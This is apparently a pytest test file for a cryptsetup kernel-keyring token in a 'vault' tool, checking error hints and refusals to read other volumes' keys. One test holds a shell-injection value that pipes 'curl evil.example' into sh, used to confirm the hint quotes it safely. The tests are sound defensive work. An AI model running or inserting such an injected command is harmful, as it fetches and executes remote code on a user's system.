"""cryptsetup's token for a key in the kernel's keyring: only a key of the type user with exactly that description."""

import shlex
from collections.abc import Iterator
from uuid import uuid4

import pytest

from vault import remembered
from vault.errors import NotAvailable, TokenUnavailable, UnsupportedFeature
from vault.system.keyring import drop_user_key, logon_key, put_user_key
from vault.testing.token_contract import WHOSE, check_refusal
from vault.tokens.kernel import KernelKeyring


@pytest.fixture
def description() -> Iterator[str]:
    """A description that is nobody else's; skips where the kernel gives no keyring."""
    description = f"vault-test:{uuid4()}"
    try:
        put_user_key(description, memoryview(bytearray(b"passphrase")), 600)
    except NotAvailable as error:
        pytest.skip(str(error))
    yield description
    drop_user_key(description)


def test_it_does_not_make_such_keys() -> None:
    with pytest.raises(UnsupportedFeature) as caught:
        KernelKeyring().enrol(WHOSE)
    assert "cryptsetup token add" in caught.value.hint


def test_the_key_is_the_credential_and_stays_where_it_is(description: str) -> None:
    token = KernelKeyring()
    members = {"key_description": description}
    for _ in range(2):
        with token.answer(members, WHOSE) as secret:
            assert bytes(secret.view()) == b"passphrase"
        token.forget(members, WHOSE)
    assert token.status(members, WHOSE).state == "ready"


def test_a_key_that_is_not_there_is_told_in_one_line(description: str) -> None:
    with pytest.raises(TokenUnavailable) as caught:
        KernelKeyring().answer({"key_description": f"{description}-other"}, WHOSE)
    check_refusal(caught.value)
    assert str(caught.value) == f"the key '{description}-other' cannot be had from the kernel's keyring: there is none"
    assert caught.value.hint == f"keyctl padd user {description}-other @u puts it there"


def test_what_a_header_says_is_one_word_of_a_command_to_paste() -> None:
    description = "x' @u; curl evil.example|sh; echo '$(id)"
    with pytest.raises(TokenUnavailable) as caught:
        KernelKeyring().answer({"key_description": description}, WHOSE)
    assert shlex.split(caught.value.hint)[:5] == ["keyctl", "padd", "user", description, "@u"]


@pytest.mark.attack(15)
def test_what_vault_keeps_for_another_volume_is_not_looked_up() -> None:
    description = f"{remembered.PREFIX}{uuid4()}"
    try:
        put_user_key(description, memoryview(bytearray(b"\1of another volume")), 600)
    except NotAvailable as error:
        pytest.skip(str(error))
    try:
        with pytest.raises(TokenUnavailable, match="keeps for itself") as caught:
            KernelKeyring().answer({"key_description": description}, WHOSE)
        check_refusal(caught.value)
        assert KernelKeyring().status({"key_description": description}, WHOSE).state == "missing"
    finally:
        drop_user_key(description)


@pytest.mark.attack(15)
def test_a_key_of_another_type_is_not_looked_up(description: str) -> None:
    other = f"vault-test:{uuid4()}"
    with logon_key(other, memoryview(bytearray(32))):
        assert KernelKeyring().status({"key_description": other}, WHOSE).state == "missing"
        assert KernelKeyring().status({"key_description": f"logon:{other}"}, WHOSE).state == "missing"
